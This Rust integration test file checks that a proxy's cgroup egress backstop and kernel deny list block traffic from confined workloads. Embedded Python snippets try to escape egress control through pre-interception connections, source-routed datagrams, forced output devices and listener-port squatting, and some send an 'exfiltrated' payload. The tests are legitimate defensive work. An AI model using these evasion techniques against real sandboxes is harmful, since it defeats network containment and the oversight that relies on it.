//! The cgroup_skb egress backstop and the kernel deny list across reloads.
//!
//! - A workload connection opened before interception was attached (so it never passed the
//!   connect hooks) can no longer send a byte to the fake internet once the proxy runs: UDP
//!   gets EPERM, TCP stalls, the upstream sees nothing, and the backstop counter goes up. New
//!   connections of the same workload are redirected as usual; a process outside the cgroup is
//!   untouched.
//! - A SIGHUP reload that changes `proxy.upstream_deny_cidrs` moves the kernel deny list too.
//! - A datagram from a workload UDP socket bound to the transparent listener's address and
//!   port, source-routed to another host, is dropped (it used to pass as the listener's).
//! - A proxy started inside the cgroup it intercepts is exempt from the backstop.
//! - A workload that listens at the transparent listener's address and port while the proxy
//!   is down serves nothing to a peer elsewhere (it used to pass as the listener).
//!
//! Safety: programs attach only to the test's own cgroup; traffic goes only to fake-internet
//! addresses (inside the test's namespace) and loopback.

use std::time::Duration;

use iron_proxy_tests::*;
use nix::sys::signal::Signal;
use serde_json::json;

use crate::intercept::lab::*;

/// A workload holding connections opened before interception: a TCP connection with one
/// HTTP request answered, and a connected UDP socket. It then waits for `<dir>/go`, tries
/// both once more, and writes `tcp <sent|errno>` and `udp <ok|errno>` to `<dir>/result`.
const EARLY_BIRD: &str = r#"
import os, socket, sys, time
host, port, dir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
def req(path):
    return ('GET %s HTTP/1.1\r\nHost: httpbin.test\r\n\r\n' % path).encode()
t = socket.create_connection((host, port), timeout=5)
t.sendall(req('/anything/before'))
t.recv(65536)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect((host, 9))
open(os.path.join(dir, 'connected'), 'w').close()
while not os.path.exists(os.path.join(dir, 'go')):
    time.sleep(0.02)
out = []
try:
    t.sendall(req('/anything/after'))
    out.append('tcp sent')
except OSError as e:
    out.append('tcp %d' % e.errno)
try:
    u.send(b'x')
    out.append('udp ok')
except OSError as e:
    out.append('udp %d' % e.errno)
with open(os.path.join(dir, 'result.tmp'), 'w') as f:
    f.write('\n'.join(out))
os.rename(os.path.join(dir, 'result.tmp'), os.path.join(dir, 'result'))
time.sleep(60)
"#;

/// `iron_proxy_intercept_events_total{event="<event>"}` from the proxy's `/metrics`.
pub(crate) fn intercept_event(px: &ProxyProcess, event: &str) -> u64 {
    px.metric("iron_proxy_intercept_events_total", &[("event", event)])
        .map_or(0, |v| v as u64)
}

#[test]
fn a_connection_opened_before_interception_cannot_send_once_the_proxy_runs() {
    require_root!();
    early_connections_are_dropped(false);
}

/// The same with the proxy started inside the cgroup it intercepts: it is recognised by its
/// pid and cgroup, and the workloads that share its cgroup are not exempt with it.
#[test]
fn a_proxy_sharing_the_workloads_cgroup_does_not_exempt_their_early_connections() {
    require_root!();
    early_connections_are_dropped(true);
}

/// An early connection's data is dropped once the proxy runs (`proxy_inside`: the proxy
/// runs inside the workload's cgroup); new connections are redirected.
fn early_connections_are_dropped(proxy_inside: bool) {
    let net = FakeInternet::new();
    let up = Upstream::http("httpbin.test").start(&net);
    let cg = TestCgroup::new();
    let pins = PinGuard::new();
    let dir = cg.shared_dir().to_path_buf();

    // Opened while nothing intercepts the cgroup: it goes direct.
    let _bird = cg
        .command(iron_proxy_tests::cgroup::system_python())
        .args(["-c", EARLY_BIRD])
        .arg(up.ip().to_string())
        .arg(up.plain_port().to_string())
        .arg(&dir)
        .spawn();
    wait_until(Duration::from_secs(10), "the early connection", || {
        dir.join("connected").exists().then_some(())
    });
    up.wait_for_request(|q| q.path() == "/anything/before");

    let mut proxy = Proxy::with(base_config(&net, &cg, &pins)).resolver(&net);
    if proxy_inside {
        proxy = proxy.in_cgroup(cg.path());
    }
    let px = start_intercepting(proxy);
    assert_eq!(intercept_event(&px, "backstop_dropped"), 0);

    std::fs::write(dir.join("go"), b"").expect("writing the go file");
    let result = wait_until(Duration::from_secs(10), "the early bird's result", || {
        std::fs::read_to_string(dir.join("result")).ok()
    });
    assert_eq!(
        result.lines().collect::<Vec<_>>(),
        vec!["tcp sent", &format!("udp {EPERM}")],
        "TCP data is only queued (the segment is dropped, then retransmitted and dropped), \
         a connected UDP socket gets EPERM"
    );
    // One UDP datagram, the TCP segment and at least one retransmission.
    wait_until(
        Duration::from_secs(10),
        "backstop drops (UDP, TCP and a TCP retransmission)",
        || (intercept_event(&px, "backstop_dropped") >= 3).then_some(()),
    );
    up.assert_no_request(|q| q.path() == "/anything/after");

    // New connections of the same cgroup are redirected to the proxy as usual.
    let r = cg.curl([
        "--resolve",
        &resolve("httpbin.test", 80, up.ip()),
        "http://httpbin.test/anything/redirected",
    ]);
    r.expect_status(200);
    up.wait_for_request(|q| q.path() == "/anything/redirected");
    let rec = px.wait_for_audit(|a| a.path() == Some("/anything/redirected"));
    assert_eq!(rec.str("mode"), Some("transparent"), "{rec}");

    // A process outside the cgroup still goes direct.
    let r = Curl::get(&up.http_url("/anything/outside"))
        .args(["--resolve", &up.curl_resolve()])
        .run();
    assert_eq!(r.status, 200, "{r}");
    up.wait_for_request(|q| q.path() == "/anything/outside");
    assert!(
        px.audit()
            .find(|a| a.path() == Some("/anything/outside"))
            .is_none(),
        "the outside request must not pass the proxy"
    );
}

#[test]
fn a_sighup_reload_moves_the_kernel_deny_list() {
    require_root!();
    let net = FakeInternet::new();
    let a = net.add_host().ips()[0];
    let b = net.add_host().ips()[0];
    let mut lab = Lab::start_with(&net, |c| {
        c["proxy"] = json!({"upstream_deny_cidrs": [format!("{a}/32")]});
    });
    let specs = [format!("tcp,{a},80"), format!("tcp,{b},80")];

    let before = probe(&lab.cg, &specs);
    assert_eq!(before[&specs[0]], json!(EPERM), "{before}");
    assert_eq!(
        before[&specs[1]],
        json!("ok"),
        "redirected to the proxy: {before}"
    );

    reload_kernel_deny(&mut lab.px, &lab.config, b);

    let after = probe(&lab.cg, &specs);
    assert_eq!(
        after[&specs[1]],
        json!(EPERM),
        "newly denied in the kernel: {after}"
    );
    assert_eq!(
        after[&specs[0]],
        json!("ok"),
        "no longer denied in the kernel: {after}"
    );
    // The range no longer denied reaches the proxy, which judges it as usual.
    let r = lab.curl(&[&format!("http://{a}/anything/undenied")]);
    assert_eq!(r.status, 403, "an IP literal outside `cidrs`: {r}");
    let rec = lab.audit_for("/anything/undenied");
    assert_eq!(rec.str("mode"), Some("transparent"), "{rec}");
}

#[test]
fn a_proxy_inside_the_intercepted_cgroup_is_exempt_from_the_backstop() {
    require_root!();
    let net = FakeInternet::new();
    let up = Upstream::https("httpbin.test").start(&net);
    // The proxy (recognised by its pid and cgroup) runs inside the cgroup it intercepts: its
    // sockets are the cgroup's, and the backstop knows them only by the cookie connect/sendmsg
    // marked.
    let lab = Lab::start_inside(&net);
    lab.px
        .wait_for_log(|l| l.contains("the proxy runs inside a cgroup it intercepts"));

    let r = lab.curl(&[
        "--resolve",
        &resolve("httpbin.test", 443, up.ip()),
        "https://httpbin.test/anything/proxy-inside",
    ]);
    r.expect_status(200);
    up.wait_for_request(|q| q.path() == "/anything/proxy-inside");
    assert_eq!(intercept_event(&lab.px, "backstop_dropped"), 0);
}

/// A workload UDP socket bound to the transparent listener's address and port (TCP holds
/// them, UDP is free) sends a datagram to port 53 with an IPv4 loose source route through
/// `argv[3]`: sendmsg redirects it to the DNS listener, but the kernel sends it to the
/// route's first hop. Prints `sent` or the errno.
const SOURCE_ROUTED: &str = r#"
import socket, sys
lip, lport, hop = sys.argv[1], int(sys.argv[2]), sys.argv[3]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind((lip, lport))
# NOP, then LSRR (type 0x83, length 7, pointer 4) with one hop.
u.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([1, 0x83, 7, 4]) + socket.inet_aton(hop))
try:
    u.sendto(b'exfiltrated', (hop, 53))
    print('sent')
except OSError as e:
    print(e.errno)
"#;

#[test]
fn a_source_routed_datagram_from_the_listeners_address_is_dropped() {
    require_root!();
    let net = FakeInternet::new();
    let hop = net.add_host();
    let lip = net.host_side_v4();
    let lport = iron_proxy_tests::ports::free_port(lip.into(), false);
    // The transparent listener on a host address (as in a container), not loopback.
    let lab = Lab::start_with(&net, |c| {
        c["intercept"]["listen"] = json!(format!("{lip}:{lport}"));
    });
    let before = intercept_event(&lab.px, "backstop_dropped");
    let out = lab.cg.python(
        SOURCE_ROUTED,
        [lip.to_string(), lport.to_string(), hop.v4.to_string()],
    );
    out.assert_ok();
    assert_eq!(
        out.stdout.trim(),
        EPERM.to_string(),
        "a source-routed datagram must not pass as the listener's: {out}"
    );
    assert!(
        intercept_event(&lab.px, "backstop_dropped") > before,
        "the backstop dropped it"
    );
}

/// A workload UDP socket sends a datagram to port 53 of `argv[1]` (which sendmsg redirects to
/// the DNS listener on loopback) with the output device forced to `argv[2]`, three ways, none
/// needing a capability: `IP_PKTINFO`'s `ipi_ifindex`, `SO_BINDTODEVICE`, `IP_UNICAST_IF`; then
/// once without forcing it. Prints one line each: `sent` or the errno.
const FORCED_DEVICE: &str = r#"
import socket, struct, sys
dst, dev = sys.argv[1], sys.argv[2]
idx = socket.if_nametoindex(dev)
def pktinfo(u):
    u.sendmsg([b'exfiltrated'], [(socket.IPPROTO_IP, 8, struct.pack('I4s4s', idx, bytes(4), bytes(4)))], 0, (dst, 53))
def bindtodevice(u):
    u.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev.encode())
    u.sendto(b'exfiltrated', (dst, 53))
def unicast_if(u):
    u.setsockopt(socket.IPPROTO_IP, 50, struct.pack('!I', idx))
    u.connect((dst, 53))
    u.send(b'exfiltrated')
def plain(u):
    u.sendto(b'\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07httpbin\x04test\x00\x00\x01\x00\x01', (dst, 53))
for f in (pktinfo, bindtodevice, unicast_if, plain):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        f(u)
        print('sent')
    except OSError as e:
        print(e.errno)
    u.close()
"#;

/// A redirected datagram whose output device the workload forced (to the fake internet's veth)
/// must not leave: the redirect rewrites only the address, and the kernel would take the
/// loopback listener's 127.0.0.1 for an on-link neighbour on that device (an ARP for it, then the
/// datagram on the wire to whoever answers). The backstop passes loopback traffic only by the
/// loopback device. The same datagram without a forced device still reaches the DNS listener.
#[test]
fn a_redirected_datagram_sent_out_of_another_device_is_dropped() {
    require_root!();
    let net = FakeInternet::new();
    let hop = net.add_host();
    let lab = Lab::start(&net);
    let before = intercept_event(&lab.px, "backstop_dropped");
    let out = lab.cg.python(
        FORCED_DEVICE,
        [hop.v4.to_string(), net.host_interface().to_string()],
    );
    out.assert_ok();
    let eperm = EPERM.to_string();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines,
        [eperm.as_str(), &eperm, &eperm, "sent"],
        "IP_PKTINFO, SO_BINDTODEVICE and IP_UNICAST_IF must not carry a redirected datagram out \
         of the veth; a plain one is sent: {out}"
    );
    assert!(
        intercept_event(&lab.px, "backstop_dropped") >= before + 3,
        "the backstop dropped them"
    );
}

/// A workload server at the transparent listener's address and port (`argv[1]:argv[2]`),
/// bound as soon as the port is free: it writes `<argv[3]>/listening`, then sends a line to
/// the first peer it accepts.
const SQUATTING_SERVER: &str = r#"
import os, socket, sys, time
lip, lport, dir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
deadline = time.time() + 10
while True:
    try:
        s.bind((lip, lport))
        break
    except OSError:
        if time.time() > deadline:
            raise
        time.sleep(0.05)
s.listen(8)
open(os.path.join(dir, 'listening'), 'w').close()
c, _ = s.accept()
c.sendall(b'exfiltrated\n')
time.sleep(30)
"#;

/// A peer in the fake internet: connects to `argv[1]:argv[2]` and prints `read <line>`, or
/// `failed <error>`.
const PEER: &str = r#"
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    s.settimeout(5)
    print('read', s.recv(100).decode().strip())
except OSError as e:
    print('failed', type(e).__name__)
"#;

/// With `intercept.listen` on a host address and the proxy down (killed), a workload binds the
/// listener's address and port and listens: a peer elsewhere gets no connection (its SYN-ACK
/// is dropped). The backstop lets a listener's answers through only from sockets carrying the
/// proxy's `SO_PRIORITY` mark; before, the address alone let the workload's accepted
/// connections (which pass no connect or sendmsg hook) talk to anyone.
#[test]
fn a_workload_listening_at_the_listeners_address_serves_no_one_outside() {
    require_root!();
    let net = FakeInternet::new();
    let lip = net.host_side_v4();
    let lport = iron_proxy_tests::ports::free_port(lip.into(), false);
    let mut lab = Lab::start_with(&net, |c| {
        c["intercept"]["listen"] = json!(format!("{lip}:{lport}"));
    });
    lab.px.signal(Signal::SIGKILL);
    wait_stopped(&mut lab.px);
    let before = backstop_dropped(&lab);

    let dir = lab.cg.shared_dir().to_path_buf();
    let _server = lab
        .cg
        .command(iron_proxy_tests::cgroup::system_python())
        .args(["-c", SQUATTING_SERVER])
        .arg(lip.to_string())
        .arg(lport.to_string())
        .arg(&dir)
        .spawn();
    wait_until(Duration::from_secs(15), "the workload to listen", || {
        dir.join("listening").exists().then_some(())
    });

    let mut peer = net.command(iron_proxy_tests::cgroup::system_python());
    peer.args(["-c", PEER, &lip.to_string(), &lport.to_string()]);
    let out =
        iron_proxy_tests::process::run_with_timeout("peer", &mut peer, Duration::from_secs(20));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.starts_with("failed"),
        "a peer outside must not reach a workload server at the listener's address: {said} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        backstop_dropped(&lab) > before,
        "the backstop dropped the SYN-ACKs"
    );
}

/// The `backstop_dropped` counter from `iron-proxy intercept status` (the proxy may be dead).
fn backstop_dropped(lab: &Lab) -> u64 {
    let (exit, text) = intercept_cmd(&lab.px, "status");
    assert_eq!(exit, 0, "intercept status: {text}");
    text.split_whitespace()
        .find_map(|w| w.strip_prefix("backstop_dropped="))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no backstop_dropped in: {text}"))
}
